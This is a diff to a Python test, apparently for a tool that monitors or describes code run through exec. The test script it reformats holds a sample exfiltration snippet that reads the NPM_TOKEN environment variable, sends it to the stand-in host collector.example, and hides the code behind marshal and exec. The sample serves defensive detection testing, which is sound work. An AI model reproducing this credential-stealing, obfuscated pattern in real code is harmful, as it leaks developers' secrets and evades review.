@@ -94,14 +94,17 @@ def test_every_way_of_evaluating_is_heard(heard, script: str, evaluator: str, co
 
 
 def test_an_unmarshalled_code_object_is_put_into_words(heard) -> None:
-    script = (
-        "import marshal\n"
-        'source = \'import os, urllib.request as u\\ndef send(x):\\n    return u.urlopen("https://collector.example/" '
-        '+ x, data=os.environ["NPM_TOKEN"].encode())\\nsend("a")\'\n'
-        "data = marshal.dumps(compile(source, 'x', 'exec'))\n"
-        "exec('pass')\n"
-        "exec(marshal.loads(data))\n"
-    )
+    script = """
+import marshal
+source = '''
+import os, urllib.request as u
+def send(x):
+    return u.urlopen("https://collector.example/" + x, data=os.environ["NPM_TOKEN"].encode())
+'''
+data = marshal.dumps(compile(source, 'x', 'exec'))
+exec('pass')
+exec(marshal.loads(data))
+"""
     entries, _ = heard(script)
     told = entries[-1].text.decode()
     assert "import urllib.request as u" in told
